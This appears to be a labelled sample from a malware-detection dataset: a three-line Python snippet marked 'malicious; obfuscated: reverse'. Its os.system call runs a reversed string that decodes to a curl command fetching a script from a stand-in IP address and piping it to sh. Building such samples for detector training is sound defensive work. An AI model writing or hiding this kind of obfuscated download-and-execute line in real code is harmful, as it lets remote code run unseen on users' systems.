# label: malicious; obfuscated: reverse
import os
os.system("hs | x/9.311.0.302//:ptth lruc"[::-1])
